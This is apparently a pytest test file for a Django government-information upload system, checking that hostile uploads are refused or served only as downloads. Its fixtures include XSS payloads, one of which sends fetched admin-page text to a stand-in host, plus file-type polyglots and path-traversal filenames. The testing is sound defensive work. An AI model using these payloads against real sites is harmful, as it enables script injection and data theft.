"""Hostile uploads into every file field (issue 11, "Show"): `.html`, `.svg`, `.js`, an HTML body behind a `%PDF` or
PNG header, an oversize file and a path-traversal name — refused, or stored and only ever served as an attachment."""

from __future__ import annotations

import datetime

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from gongkai.core import roles
from gongkai.core.samples import sample_bytes, sample_upload
from gongkai.core.uploads import (
    FILE_TYPES,
    UploadValidator,
    content_type_for_name,
    registered_kinds,
    safe_filename,
    validate_upload,
)

HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/').then(r=>r.text()).then(alert)</script></body></html>"
HOSTILE = {
    "page.html": HTML,
    "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "script.js": b"fetch('/admin/').then(r => r.text()).then(t => new Image().src = '//x/?' + t);",
    "polyglot.pdf": b"%PDF-1.4\n" + HTML,
    "polyglot.png": b"\x89PNG\r\n\x1a\n" + HTML,
    "polyglot.jpg": b"\xff\xd8\xff\xe0" + HTML,
    "renamed.docx": HTML,
    "renamed.txt": HTML,
    "renamed.mp3": HTML,
    "exe.pdf": b"MZ\x90\x00\x03" + b"\x00" * 200,
}


def stored_kinds():
    return sorted(name for name, kind in registered_kinds().items() if kind.stored)


@pytest.mark.parametrize("kind", stored_kinds())
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_every_stored_kind_refuses_hostile_files(kind, name):
    with pytest.raises(ValidationError) as exc:
        validate_upload(SimpleUploadedFile(name, HOSTILE[name]), kind)
    message = " ".join(exc.value.messages)
    assert "不支持的文件类型" in message or "不是真正的" in message


@pytest.mark.parametrize("kind", stored_kinds())
def test_every_stored_kind_accepts_its_real_types_and_refuses_oversize(kind, settings):
    spec = registered_kinds()[kind]
    for key in spec.types:
        if key in ("doc", "xls", "wps", "m4a", "mp4", "webm"):
            continue  # no generator for these formats here; their detection is libmagic's (tested below)
        validated = validate_upload(SimpleUploadedFile(f"文件.{key}", sample_bytes(key)), kind)
        assert validated.file_type.key == key
    settings.GONGKAI_UPLOAD_LIMITS = {kind: 100}
    key = spec.types[0]
    with pytest.raises(ValidationError, match="过大"):
        validate_upload(SimpleUploadedFile(f"大.{key}", sample_bytes(key)), kind)


def test_html_is_only_for_kinds_that_throw_the_file_away():
    from gongkai.core.uploads import register_upload_kind

    for kind in registered_kinds().values():
        if kind.stored:
            assert not any(FILE_TYPES[t].dangerous for t in kind.types), kind.name
    with pytest.raises(ValueError):
        register_upload_kind("x.y", label="x", types=["pdf", "html"], stored=True)
    validate_upload(
        SimpleUploadedFile("公文.html", "<html><body><p>关于印发的通知</p></body></html>".encode()),
        "documents.source",
    )


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/passwd.pdf",
        "..\\..\\windows\\x.pdf",
        "/var/private/a.pdf",
        "a\x00b.pdf",
        "ok\u202egpj.pdf",
        ".",
    ],
)
def test_path_traversal_names_are_made_safe(name):
    validated = validate_upload(SimpleUploadedFile("x.pdf", sample_bytes("pdf")), "policies.attachment")
    assert validated.safe_name == "x.pdf"
    safe = safe_filename(name, "pdf")
    assert "/" not in safe and "\\" not in safe and "\x00" not in safe and "\u202e" not in safe
    assert safe.endswith(".pdf") and not safe.startswith(".")


def test_empty_and_broken_files():
    with pytest.raises(ValidationError, match="空文件"):
        validate_upload(SimpleUploadedFile("空.pdf", b""), "policies.attachment")
    half = sample_bytes("pdf")[:200]
    with pytest.raises(ValidationError, match="不是真正的"):
        validate_upload(SimpleUploadedFile("半个.pdf", half), "policies.attachment")
    with pytest.raises(ValidationError, match="不是真正的"):
        validate_upload(SimpleUploadedFile("坏.docx", sample_bytes("zip")), "policies.attachment")


def test_served_types_never_html():
    for name in ("a.html", "a.htm", "a.svg", "a.js", "a.xml", "a", "a.exe"):
        assert content_type_for_name(name) == "application/octet-stream"
    assert content_type_for_name("a.pdf") == "application/pdf"


def test_model_field_validator_checks_new_uploads_only(db, make_policy):
    from gongkai.policies.models import PolicyAttachment

    policy = make_policy()
    att = PolicyAttachment(
        policy=policy, title="x", file=SimpleUploadedFile("x.pdf", HOSTILE["polyglot.pdf"])
    )
    with pytest.raises(ValidationError):
        att.full_clean()
    att.file = sample_upload("x.pdf")
    att.full_clean()
    att.save()
    att.refresh_from_db()
    att.full_clean()  # a stored file is not read again
    assert UploadValidator("policies.attachment") in PolicyAttachment._meta.get_field("file").validators


@pytest.mark.django_db
def test_every_upload_path_refuses_an_html_polyglot(departments, make_user, make_policy, client):
    """The file fields of every app, through their actions and forms."""
    from gongkai.core import calendar
    from gongkai.disclosure import actions as disclosure
    from gongkai.policies import actions as policies
    from gongkai.policies.models import InterpretationForm

    def bad(name):
        return SimpleUploadedFile(name, HOSTILE["polyglot.pdf" if name.endswith(".pdf") else "polyglot.png"])

    officer = make_user(roles.DEPARTMENT_OFFICER, "区发展改革委")
    roles.assign_role(officer, roles.DISCLOSURE_HANDLER)
    policy = make_policy(publish=False)
    with pytest.raises(ValidationError):
        policies.add_attachment(policy, actor=officer, title="附件", file=bad("a.pdf"))
    for field, name in (("image", "a.png"), ("media_file", "a.mp3")):
        with pytest.raises(ValidationError):
            policies.create_interpretation(
                actor=officer,
                policies=[policy],
                title="解读",
                form=InterpretationForm.GRAPHIC,
                **{field: bad(name)},
            )
    calendar.seed_from_chinese_calendar(years=[2024, 2025, 2026])
    data = {
        "applicant_type": "natural_person",
        "applicant_name": "张三",
        "id_type": "id_card",
        "id_number": "11010519491231002X",
        "phone": "13812345678",
        "department": departments["区发展改革委"],
        "information_title": "信息",
        "description": "所需信息的描述",
        "information_form": "electronic",
        "delivery_method": "online",
    }
    with pytest.raises(ValidationError):
        disclosure.create_request(actor=None, channel="online", data=data, identity_proof=bad("id.png"))
    req, _code = disclosure.create_request(actor=None, channel="online", data=data)
    with pytest.raises(ValidationError):
        disclosure.register_case(
            req,
            actor=officer,
            kind="review",
            authority="区政府",
            filed_on=datetime.date(2024, 1, 2),
            document=bad("c.pdf"),
        )
    from wagtail.documents.forms import get_document_form
    from wagtail.documents.models import Document

    from gongkai.core.forms import ValidatedDocumentForm

    assert issubclass(get_document_form(Document), ValidatedDocumentForm)
    # public verify form
    response = client.post("/disclosure/verify/", {"pdf": bad("r.pdf")})
    assert response.status_code == 400 and "不是真正的" in response.content.decode()


def test_an_html_file_in_a_txt_field_is_served_only_as_a_download(db, tmp_path, settings, rf):
    """A text file full of markup passes as text (libmagic may call it text) in the fields that take .txt; it is
    then served as text/plain, as an attachment, with nosniff and a sandboxing CSP."""
    from django.core.files.base import ContentFile

    from gongkai.core.storage import private_storage, serve_private_file

    name = private_storage().save(
        "policies/attachments/t.txt", ContentFile("说明<script>alert(1)</script>".encode())
    )
    field = type("F", (), {"name": name, "storage": private_storage(), "__bool__": lambda self: True})()
    response = serve_private_file(rf.get("/"), field, download_name="说明.txt", inline=True)
    response.close()
    assert response["Content-Type"].startswith("text/plain")
    assert response["Content-Disposition"].startswith("attachment")
    assert (
        response["X-Content-Type-Options"] == "nosniff" and "sandbox" in response["Content-Security-Policy"]
    )


def test_sync_command_repairs_and_cleans(db, make_policy, settings, tmp_path):
    from pathlib import Path

    from django.core.management import call_command

    from gongkai.core.models import PublicFile
    from gongkai.core.storage import public_storage
    from gongkai.policies import actions

    # A public folder of its own: copies other tests of this process left behind are orphans too.
    settings.MEDIA_ROOT = str(tmp_path / "media")

    policy = make_policy(publish=False)
    actions.add_attachment(policy, actor=None, title="附件", file=sample_upload("附件.pdf"))
    actions.publish_policy(policy, actor=None)
    row = PublicFile.objects.get()
    public_storage().delete(row.public_name)  # a lost copy
    stray = Path(settings.MEDIA_ROOT) / "zz" / "stray.pdf"
    stray.parent.mkdir(parents=True, exist_ok=True)
    stray.write_bytes(b"%PDF")
    import io

    out = io.StringIO()
    call_command("sync_public_files", stdout=out)
    assert "清除无主文件 1 个" in out.getvalue()
    assert public_storage().exists(row.public_name) and not stray.exists()


def test_data_migration_moves_old_files_and_publishes_public_ones(db, make_policy, settings):
    """`core.0005` on files of the old single storage (in MEDIA_ROOT, under their original names)."""
    import importlib
    from pathlib import Path

    from django.apps import apps

    from gongkai.core.models import AuditEntry, PublicFile
    from gongkai.policies.models import PolicyAttachment

    migration = importlib.import_module("gongkai.core.migrations.0005_move_files_to_private_storage")
    public = make_policy("公开政策")
    internal = make_policy("内部政策", disclosure="not_disclosed", disclosure_reason="内部事务")
    old = Path(settings.MEDIA_ROOT) / "policies" / "2024" / "03"
    old.mkdir(parents=True, exist_ok=True)
    (old / "附件.pdf").write_bytes(sample_bytes("pdf"))
    (old / "内部.docx").write_bytes(sample_bytes("docx"))
    (old / "旧版本.pdf").write_bytes(sample_bytes("pdf"))  # a file only an old revision pointed at
    PolicyAttachment.objects.create(policy=public, title="附件", file="policies/2024/03/附件.pdf")
    PolicyAttachment.objects.create(policy=internal, title="内部", file="policies/2024/03/内部.docx")
    migration.move_files(apps, None)
    private = Path(settings.GONGKAI_PRIVATE_MEDIA_ROOT) / "policies" / "2024" / "03"
    assert sorted(p.name for p in private.iterdir()) == ["内部.docx", "旧版本.pdf", "附件.pdf"]
    assert not (Path(settings.MEDIA_ROOT) / "policies").exists()
    row = PublicFile.objects.get()
    assert (
        row.source_name == "policies/2024/03/附件.pdf"
        and (Path(settings.MEDIA_ROOT) / row.public_name).is_file()
    )
    assert AuditEntry.objects.filter(action="storage.moved_to_private").count() == 3
    assert AuditEntry.objects.filter(action="storage.published_copy").count() == 1
    migration.move_files(apps, None)  # idempotent
    assert (
        PublicFile.objects.count() == 1
        and AuditEntry.objects.filter(action="storage.moved_to_private").count() == 3
    )
